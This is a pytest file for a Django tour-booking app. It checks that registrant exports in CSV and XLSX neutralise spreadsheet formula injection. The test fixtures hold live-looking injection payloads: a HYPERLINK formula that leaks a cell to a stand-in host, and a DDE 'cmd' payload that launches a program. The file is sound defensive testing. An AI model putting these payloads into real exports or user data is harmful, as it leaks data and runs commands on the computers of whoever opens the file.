"""A host's registrant export with the issue's payloads: neutralised in CSV (semicolons on request), text in XLSX."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.tours.conftest import host_user, make_org, make_session, make_tour, register

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
GROUP = "=cmd|' /C calc'!A0"
EMAIL = "=1+1@example.com"


@pytest.fixture
def export(client: Client) -> Any:
    org = make_org()
    session = make_session(make_tour(host=org), capacity=10)
    register(session, name=NAME, email=EMAIL, group_name=GROUP, group_leader="@SUM(1+1)", party=2)
    client.force_login(host_user(org))
    return lambda fmt, **query: client.get(f"/tours/cabinet/sessions/{session.pk}/registrants.{fmt}", query)


def test_csv_neutralises_and_splits_on_semicolons_for_russian_excel(export: Any) -> None:
    response = export("csv", sep="semicolon")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(rows) == 2 and len(rows[0]) == len(rows[1]) > 5
    assert "'" + NAME in rows[1] and "'" + GROUP in rows[1] and "'@SUM(1+1)" in rows[1] and "'" + EMAIL in rows[1]
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row)
    comma = export("csv")
    assert list(csv.reader(io.StringIO(comma.content.decode("utf-8-sig"))))[1] == rows[1]


def test_xlsx_cells_are_text_never_formulas(export: Any) -> None:
    response = export("xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert "'" + NAME in values and "'" + GROUP in values and "'" + EMAIL in values
